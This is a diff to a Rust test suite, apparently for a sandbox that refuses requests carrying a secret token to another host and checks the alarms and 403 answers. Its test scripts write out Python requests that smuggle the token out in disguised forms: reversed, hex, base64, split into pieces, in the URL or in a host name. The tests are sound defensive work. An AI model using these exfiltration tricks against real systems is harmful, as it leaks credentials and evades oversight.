@@ -23,10 +23,16 @@ fn subject(lab: &Lab) -> Subject<'_> {
 
 /// The client was told, the other origin saw not an octet, the record has the alarm.
 fn check(other: &HttpOrigin, run: &Finished) {
+    check_each(other, run, 1);
+}
+
+/// The same of so many requests.
+fn check_each(other: &HttpOrigin, run: &Finished, asked: usize) {
     Refusal::new(DenyReason::SecretMisuse)
-        .repeatedly()
+        // The request, and the alarm.
+        .times(2 * asked)
         .unseen_by(other)
-        .client_says("403")
+        .client(|run| run.text().matches("403").count() == asked)
         .check(run);
     alarmed(run);
 }
@@ -40,8 +46,8 @@ fn alarmed(run: &Finished) {
     }
 }
 
-/// Asks the other host with whatever `expression` makes of the secret in `place`.
-fn towards_the_other(place: &str) -> Finished {
+/// Asks the other host so many times, with the secret where `place` puts it.
+fn towards_the_other(asked: usize, place: &str) -> Finished {
     let lab = Lab::new();
     let other = lab.https(OTHER, greet);
     let script = format!(
@@ -54,18 +60,22 @@ fn towards_the_other(place: &str) -> Finished {
          {place}\n"
     );
     let run = subject(&lab).python(&script);
-    check(&other, &run);
+    check_each(&other, &run, asked);
+    // The script came to its end, with an answer to each.
+    let run = run.success();
+    assert_eq!(run.text().lines().count(), asked, "{run}");
     run
 }
 
 #[test]
 fn a_bearer_token_for_another_host_stays() {
-    let _run = towards_the_other("ask(headers={'Authorization': 'Bearer ' + t})");
+    let _run = towards_the_other(1, "ask(headers={'Authorization': 'Bearer ' + t})");
 }
 
 #[test]
 fn a_token_in_other_clothes_stays() {
     let _run = towards_the_other(
+        7,
         "ask(headers={'X-Api-Key': t.upper()})\n\
          ask(headers={'X-Api-Key': t[::-1]})\n\
          ask(headers={'X-Api-Key': t.encode().hex()})\n\
@@ -79,6 +89,7 @@ fn a_token_in_other_clothes_stays() {
 #[test]
 fn a_token_in_pieces_stays() {
     let _run = towards_the_other(
+        4,
         "ask(headers={'Cookie': 'a=%s; b=%s' % (t[:9], t[9:])})\n\
          ask('/?one=%s&two=%s' % (t[:9], t[9:]))\n\
          ask(data=('one=%s&two=%s' % (t[:9], t[9:])).encode())\n\
@@ -90,6 +101,7 @@ fn a_token_in_pieces_stays() {
 fn a_value_in_pieces_of_a_body_or_in_wide_letters_stays() {
     // Whoever knows the value by another way does not send it on either.
     let _run = towards_the_other(
+        7,
         "import json\n\
          v = ''.join(['real-value-7Q', 'x2mZ0pLr'])\n\
          a, b = v[:9], v[9:]\n\
@@ -109,6 +121,7 @@ fn a_value_in_pieces_of_a_body_or_in_wide_letters_stays() {
 #[test]
 fn a_token_in_the_target_stays() {
     let _run = towards_the_other(
+        4,
         "ask('/collect/' + t)\n\
          ask('/?q=' + t)\n\
          ask('/?q=' + ''.join('%%%02x' % ord(c) for c in t))\n\
@@ -119,6 +132,7 @@ fn a_token_in_the_target_stays() {
 #[test]
 fn a_token_in_basic_credentials_and_forms_stays() {
     let _run = towards_the_other(
+        2,
         "ask(headers={'Authorization': 'Basic ' + base64.b64encode(b'u:' + t.encode()).decode()})\n\
          ask(data=urllib.parse.urlencode({'client_secret': t}).encode())",
     );
@@ -165,7 +179,7 @@ fn a_second_request_on_a_connection_is_looked_at_like_the_first() {
     let run = subject(&lab).python(&script);
     let second = |request: &Request| request.target == "/two";
     Refusal::new(DenyReason::SecretMisuse)
-        .repeatedly()
+        .times(2)
         .origin_never_sees("the second request", || other.requests().iter().any(second))
         .client_says("403")
         .check(&run);
@@ -187,7 +201,8 @@ fn a_token_is_no_part_of_a_host_name() {
              || echo refused",
         );
     Refusal::new(DenyReason::SecretMisuse)
-        .repeatedly()
+        // As a connection and as a request, and an alarm of each.
+        .times(4)
         .unseen_by(&other)
         .client(|run| run.text().contains("403") || run.text().contains("refused"))
         .check(&run);
